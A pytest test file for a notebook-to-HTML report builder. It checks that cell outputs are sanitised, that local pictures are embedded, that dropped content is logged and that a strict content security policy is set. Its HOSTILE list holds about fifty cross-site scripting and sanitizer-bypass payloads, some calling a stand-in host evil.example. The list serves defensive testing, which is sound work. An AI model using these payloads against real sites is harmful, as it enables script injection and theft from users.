"""What a notebook brings into the page: pictures whole, nothing that runs, all losses named."""

import base64
import hashlib
import re
from urllib.parse import unquote

import pytest
from bs4 import BeautifulSoup
from notebook_files import PNG, SVG, Built, code, html, output, picture, prose, stream, text64

from helpers.report import cover, harmless, page

EVIL = "https://evil.example/x"
RUNS = "window.hacked=1"
LOADS = f"fetch('{EVIL}')"
# A line of each way in which HTML runs or loads something, or hides that it does.
HOSTILE = [
    f"<script>{RUNS}</script>",
    f"<script src={EVIL}.js></script>",
    f"<img src=x onerror={RUNS}>",
    f"<img src='data:,' onerror={RUNS} alt=a>",
    f'<img src="data:image/png;base64,{text64(PNG)}" onload={RUNS} style="background:url({EVIL})">',
    f"<img src={EVIL}.png srcset='{EVIL}.png 2x' alt=remote>",
    "<IMG SRC=//evil.example/x.png ALT=remote>",
    f"<image src={EVIL}.png onerror={RUNS}>",
    f"<picture><source srcset={EVIL}.png><img src={EVIL}.png alt=remote></picture>",
    f"<svg onload={RUNS}><script>{RUNS}</script><image href={EVIL}.png /></svg>",
    f"<svg><a xlink:href='javascript:{RUNS}'><text>x</text></a></svg>",
    f"<svg><style><img src=x onerror={RUNS}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUNS}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUNS}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUNS}></annotation-xml></math>",
    f"<math href='javascript:{RUNS}'><mi>x</mi></math>",
    f"<math><mi xlink:href='javascript:{RUNS}'>x</mi></math>",
    f"<a href='javascript:{RUNS}'>go</a>",
    f"<a href=' jav&#x09;ascript:{RUNS}'>go</a>",
    f"<a href='&#106;avascript:{RUNS}'>go</a>",
    "<a href='data:text/html,<script>window.hacked=1</script>'>go</a>",
    f"<a href='vbscript:{RUNS}' ping={EVIL}>go</a>",
    f"<form action={EVIL}><button formaction='javascript:{RUNS}'>go</button></form>",
    f"<form><input type=image src={EVIL}.png><input autofocus onfocus={RUNS}></form>",
    f"<details open ontoggle={RUNS}><summary>s</summary>text</details>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}><applet code={EVIL}></applet>",
    f"<video src={EVIL} poster={EVIL} onerror={RUNS}></video><audio src={EVIL} autoplay></audio>",
    f"<style>@import '{EVIL}.css'; body {{ display: none }}</style>",
    f"<link rel=stylesheet href={EVIL}.css><link rel=prefetch href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    f"<template><img src=x onerror={RUNS}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'></noscript>",
    f"<textarea></textarea><title></title><img src=x onerror={RUNS}>",
    f"<xmp><p title='</xmp><img src=x onerror={RUNS}>'>",
    f"<select><template><style><!--</style><img src=x onerror={RUNS}>",
    f"<!--><img src=x onerror={RUNS}>--><!--!--!><img src=x onerror={RUNS}>",
    f"<![CDATA[><img src=x onerror={RUNS}>]]><?x ><img src=x onerror={RUNS}>",
    f"<table background={EVIL}.png><td background={EVIL}.png onclick={RUNS}>x</td></table>",
    f"<p style='background:url({EVIL}.png)' onmouseover={RUNS} onfocus={RUNS} tabindex=0>p</p>",
    f"<div></div></div></div></section></main><script>{RUNS}</script><div>",
    f"<frameset onload={RUNS}><frame src={EVIL}></frameset>",
    f"<body onload={RUNS} background={EVIL}.png>",
    f"<marquee onstart={RUNS}>x</marquee><blink>x</blink><x-y onclick={RUNS}>x</x-y>",
    "<p id=report name=report class='nb-cell failed'>again</p>",
    f"<isindex action=javascript:{RUNS} type=image>",
    f"<a href='#x' target=_blank onclick='{LOADS}'>go</a><p/onclick={RUNS}>x",
    f"<<script>{RUNS}//<</script><img src=x:x onerror\x0b={RUNS}><img/src=x/onerror={RUNS}>",
]
SVG_THAT_RUNS = SVG.replace(
    "<rect",
    f'<script>{RUNS}</script><a xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'xlink:href="javascript:{RUNS}"><circle r="1" onload="{RUNS}"/></a>'
    f"<foreignObject><p>x</p></foreignObject><rect",
)


def hostile_cells() -> list[dict]:
    """Every hostile line as an output, as Markdown and in whatever else reaches the page."""
    cells = [html(line) for line in HOSTILE]
    cells += [prose(f"Prose {line}\n\n{line}") for line in HOSTILE]
    cells += [output({"text/markdown": line}) for line in HOSTILE]
    cells += [code(stream(line), source=f"# {line}\n'{line}'") for line in HOSTILE]
    code_of_error = {
        "output_type": "error",
        "ename": HOSTILE[0],
        "evalue": "",
        "traceback": HOSTILE,
    }
    breaks_out = f'"><script>{RUNS}</script><img src=x onerror="{RUNS}"'
    cells += [
        code(code_of_error),
        output({"image/svg+xml": SVG_THAT_RUNS}),
        output({"image/png": breaks_out, "text/plain": "picture"}),
        output({"image/png": text64(PNG)}, alt=breaks_out, width=breaks_out, height=breaks_out),
        output({"image/png": text64(PNG)}, caption=breaks_out),
        output({"application/javascript": RUNS}),
        output({"text/latex": rf"$\text{{{HOSTILE[0]}}}$"}),
        prose(rf"$\text{{{HOSTILE[2]}}}$ and $\href{{javascript:{RUNS}}}{{x}}$"),
        prose(rf"$\style{{background:url({EVIL})}}{{x}}$ $\class{{nb-cell}}{{x}}$"),
        prose(f"![a](x 'on'onerror={RUNS}) [go](javascript:{RUNS}) [go]: javascript:{RUNS}"),
        prose(f"```html\n{HOSTILE[0]}\n```\n\n```mermaid\n{HOSTILE[2]}\n```\n\n<{EVIL}>"),
        html(cover.title_block({"title": HOSTILE[0], "author": HOSTILE[2]}, "2026-01-02")),
    ]
    return cells


def outside(soup: BeautifulSoup) -> list[str]:
    """What would run or load, of all that the page's own template did not write."""
    found = []
    for element in soup.main(True):
        if element.name not in harmless.ELEMENTS | {"main", "header", "section", "aside"}:
            found.append(element.name)
        for name, value in element.attrs.items():
            address = name in ("src", "href", "srcset", "action", "data", "poster", "background")
            good = name == "src" and value.startswith("data:image/")
            good |= name == "href" and re.match(r"#|https?://|mailto:", value) is not None
            if name.startswith("on") or name == "style" or (address and not good):
                found.append(f"{element.name} {name}={value}")
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Built:
    return Built(tmp_path_factory.mktemp("hostile"), *hostile_cells(), prose("The end."))


def test_nothing_hostile_is_left_in_the_page(hostile):
    assert outside(hostile.soup) == []
    assert len(hostile.soup("script")) == 1
    assert hostile.soup.main.find_all(class_="nb-cell")[-1].get_text(strip=True) == "The end."
    sources = [image["src"] for image in hostile.soup("img")]
    drawn = [unquote(source) for source in sources if source.startswith("data:image/svg")]
    assert len(drawn) == 1
    assert "circle" in drawn[0]
    for word in ("hacked", "foreignObject", "script"):
        assert word not in drawn[0]


def test_an_element_or_an_id_of_the_page_cannot_be_taken(hostile):
    cells = hostile.soup(class_="nb-cell")
    assert all(re.fullmatch(r"01-cell-\d+", cell["id"]) for cell in cells)
    ids = [element["id"] for element in hostile.soup(id=True)]
    assert len(ids) == len(set(ids))
    (failed,) = hostile.soup(class_="failed")
    assert failed.find(class_="stopped")


def test_what_was_dropped_is_named_with_its_cell(hostile):
    assert hostile.log[0] == "01-cell-2: <script>, 1 time"
    said = "\n".join(hostile.log)
    for words in (
        "onload of <img>",
        "style of <img>",
        "picture https://evil.example/x.png: it is not beside the notebook",
        "<svg>",
        "<iframe>",
        "<style>",
        "href of <a>",
        "<form>",
        "<meta>",
        "script or link in an SVG picture",
        "output of application/javascript",
    ):
        assert words in said


@pytest.mark.real
def test_a_browser_runs_and_loads_nothing_of_it(hostile, browser):
    tab = browser.new_page()
    requests, said = [], []
    tab.on("request", lambda request: requests.append(request.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.on("dialog", lambda dialog: said.append(dialog.message))
    tab.goto(hostile.file.as_uri())
    tab.get_by_role("button", name="Expand all").click()
    # Every event that a handler may wait for; none of them follows a link.
    tab.evaluate("""for (const element of document.querySelectorAll('main *'))
        for (const kind of ['click', 'mouseover', 'focus', 'load', 'error', 'toggle', 'start'])
            element.dispatchEvent(new Event(kind))""")
    tab.wait_for_timeout(300)
    assert tab.evaluate("window.hacked") is None
    assert {url for url in requests if not url.startswith("data:")} == {hostile.file.as_uri()}
    assert said == []
    # What the browser's own parser made of it.
    found = tab.evaluate("""[...document.querySelectorAll('main *')].filter(e =>
        e.namespaceURI.endsWith('svg') || e.matches('script, style, iframe, form, input, object')
        || [...e.attributes].some(a => a.name.startsWith('on') || a.name == 'style'))
        .map(e => e.outerHTML)""")
    assert found == []
    assert tab.evaluate("document.querySelector('main').lastElementChild.className") == "appendix"
    tab.close()


def policy(soup: BeautifulSoup) -> dict[str, str]:
    meta = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    return dict(rule.split(" ", 1) for rule in meta.split("; "))


def test_the_policy_names_the_pages_own_script_and_style_and_nothing_else(tmp_path):
    soup = Built(tmp_path, prose("Text.")).soup

    def name(element) -> str:
        digest = hashlib.sha256(element.string.encode()).digest()
        return f"'sha256-{base64.b64encode(digest).decode()}'"

    assert policy(soup) == {
        "default-src": "'none'",
        "img-src": "data:",
        "style-src": name(soup.style),
        "script-src": name(soup.script),
        "base-uri": "'none'",
        "form-action": "'none'",
    }


PICTURES = {
    "markdown": prose("![A chart.](chart.png)"),
    "in a folder": prose("![A chart.](figures/a%20b.png 'title')"),
    "html": prose('<img src="chart.png" alt="A chart." width="40">'),
    "html in a line": prose('See <img src="./chart.png?raw=1" alt="A chart."> here.'),
    "html of an output": html('<p><img src="chart.png" alt="A chart."></p>'),
    "markdown of an output": output({"text/markdown": "![A chart.](chart.png)"}),
    "attached": prose(
        "![A chart.](attachment:a%20b.png)", attachments={"a b.png": {"image/png": text64(PNG)}}
    ),
    "in the page": prose(f'<img alt="A chart." src="data:image/png;base64,{text64(PNG)}">'),
    "centred": prose(
        '<center><a href="chart.png"><img src="chart.png" alt="A chart."></a></center>'
    ),
}


@pytest.mark.parametrize("cell", PICTURES.values(), ids=PICTURES)
def test_a_picture_beside_the_notebook_is_embedded(cell, tmp_path):
    for name in ("chart.png", "figures/a b.png"):
        file = tmp_path / "notebooks" / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(PNG)
    built = Built(tmp_path, cell)
    (image,) = built.soup("img")
    assert image["alt"] == "A chart."
    address, _, content = image["src"].partition(",")
    assert address == "data:image/png;base64"
    assert base64.b64decode(content) == PNG
    assert built.log == []


@pytest.mark.parametrize("kind", ["jpeg", "gif", "webp"])
def test_the_kind_of_a_picture_is_told_by_its_bytes(kind, tmp_path):
    (tmp_path / "notebooks").mkdir()
    (tmp_path / "notebooks" / "chart.png").write_bytes(picture(kind))
    built = Built(
        tmp_path, prose("![a](chart.png)"), output({f"image/{kind}": text64(picture(kind))})
    )
    sources = [image["src"] for image in built.soup("img")]
    assert sources == [f"data:image/{kind};base64,{text64(picture(kind))}"] * 2


def test_an_svg_file_is_embedded_as_it_is(tmp_path):
    (tmp_path / "notebooks").mkdir()
    (tmp_path / "notebooks" / "chart.svg").write_text(SVG)
    attached = {"a.svg": {"image/svg+xml": text64(SVG.encode())}}
    built = Built(
        tmp_path,
        prose("![a](chart.svg) ![a](attachment:a.svg)", attachments=attached),
        output({"image/svg+xml": SVG}),
    )
    addresses = [image["src"].partition(",") for image in built.soup("img")]
    assert [(head, unquote(content)) for head, _, content in addresses] == [
        ("data:image/svg+xml", SVG)
    ] * 3
    assert built.log == []


LOST = {
    "missing.png": "no such file beside the notebook",
    "https://example.org/a.png": "it is not beside the notebook",
    "//example.org/a.png": "it is not beside the notebook",
    "file:///etc/hostname": "it is not beside the notebook",
    "/etc/hostname": "no such file beside the notebook",
    "../outside.png": "no such file beside the notebook",
    "link.png": "no such file beside the notebook",
    "attachment:none.png": "no such attachment",
    "text.png": "it cannot be read",
    "cut.png": "it cannot be read",
    "cut.svg": "it cannot be read",
    "bare.svg": "it is no SVG picture",
    "large.png": "it has more than 10 MB",
    "data:text/html,<p>x</p>": "it is no SVG picture",
    "http://[": "it is not beside the notebook",
    "": "no such file",
}


@pytest.mark.parametrize("source", LOST)
def test_of_a_picture_that_cannot_be_embedded_the_words_stay_and_the_log_names_it(source, tmp_path):
    folder = tmp_path / "notebooks"
    folder.mkdir()
    (tmp_path / "outside.png").write_bytes(PNG)
    (folder / "link.png").symlink_to(tmp_path / "outside.png")
    (folder / "text.png").write_text("text")
    (folder / "cut.png").write_bytes(PNG[:-20])
    (folder / "cut.svg").write_text(SVG[:-20])
    (folder / "bare.svg").write_text("<svg width='9'/>")
    if source == "large.png":
        (folder / "large.png").write_bytes(PNG + bytes(harmless.MOST_BYTES))
    built = Built(tmp_path, prose(f'Before. <img src="{source}" alt="A &amp; chart."> After.'))
    assert not built.soup("img")
    assert built.cell().get_text(strip=True) == "Before. A & chart. After."
    assert len(built.log) == 1
    assert built.log[0].startswith("01-cell-2: picture " + source.partition(",")[0])
    assert LOST[source] in built.log[0]


def test_a_picture_of_an_output_that_is_none_leaves_its_words(tmp_path):
    built = Built(
        tmp_path,
        output({"image/png": "none", "text/plain": "<Figure>"}, alt="A chart."),
        output({"image/svg+xml": "<svg><", "image/png": text64(PNG)}, alt="Another."),
    )
    assert built.cell(2).find(class_="output").get_text(strip=True) == "A chart."
    assert built.cell(3).img["src"].endswith(text64(PNG))
    assert [line.partition(": ")[0] for line in built.log] == ["01-cell-2", "01-cell-3"]


def test_the_next_form_is_shown_where_the_richest_needs_a_script(tmp_path):
    built = Built(
        tmp_path,
        output(
            {"text/html": "<div id=plot></div><script>draw()</script>", "image/png": text64(PNG)}
        ),
        output(
            {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "bar"}
        ),
        output({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}}),
    )
    assert built.cell(2).img
    assert built.cell(3).find(class_="output").get_text(strip=True) == "bar"
    assert built.log == [
        "01-cell-2: <script>, 1 time",
        "01-cell-4: output of application/vnd.jupyter.widget-view+json, 1 time",
    ]


UNCLOSED = [
    "<!-- a comment",
    "<script>f(",
    "<style>p {",
    "<textarea>",
    "<title>",
    "<details><summary>s</summary><table><tr><td>x",
    "<b><i><ul><li><pre>x",
    "</div></div></section></main></body></html>",
    "<select><option>x",
    "<plaintext>",
    "<p title='x",
]


@pytest.mark.parametrize("source", UNCLOSED)
@pytest.mark.parametrize("cell", [html, prose])
def test_what_is_not_closed_ends_with_its_cell(cell, source, tmp_path):
    built = Built(tmp_path, cell(f"<p>x</p>{source}"), prose("The end."))
    end = built.cell(3)
    assert end.get_text(strip=True) == "The end."
    assert end.parent["class"] == ["appendix"]


def test_wrappers_lose_only_their_looks_and_lists_of_tasks_their_boxes(tmp_path):
    built = Built(
        tmp_path,
        html("<html><body><center><font color=red>Kept</font></center></body></html>"),
        prose("- [x] done\n- [ ] open"),
    )
    assert built.cell(2).find(class_="output").get_text(strip=True) == "Kept"
    assert [" ".join(li.get_text().split()) for li in built.cell(3)("li")] == ["☑ done", "☐ open"]
    assert built.log == []


def test_one_line_on_the_terminal_leads_to_the_log(tmp_path, capsys):
    Built(tmp_path, html("<iframe src=x></iframe>"), prose("<img src=a.png>"))
    assert capsys.readouterr().out == "left out of the page: 2 things, named in logs/page.log\n"
    built = Built(tmp_path, html("<style>p {}</style><p style='color: red'>x</p>"))
    assert capsys.readouterr().out == ""
    assert built.log == ["01-cell-2: <style>, 1 time", "01-cell-2: style of <p>, 1 time"]
    assert Built(tmp_path, prose("Nothing.")).log == []


def test_the_same_notebook_gives_the_same_bytes(tmp_path):
    cells = [*hostile_cells(), prose("$x^2$")]
    first = Built(tmp_path, *cells)
    assert Built(tmp_path, *cells).text == first.text
    assert "<math" in first.text


def test_a_page_of_nothing_says_what_happened(tmp_path):
    banner = page.Banner("failure", "01 stopped <here>.", facts={"Resume with": "make report"})
    page.build(None, [], tmp_path / "report.html", title="Lab <1>", banners=[banner])
    soup = BeautifulSoup((tmp_path / "report.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.title.string == soup.h1.string == "Lab <1>"
    assert "01 stopped <here>." in soup.aside.get_text()
    assert "Resume with make report" in " ".join(soup.aside.get_text().split())
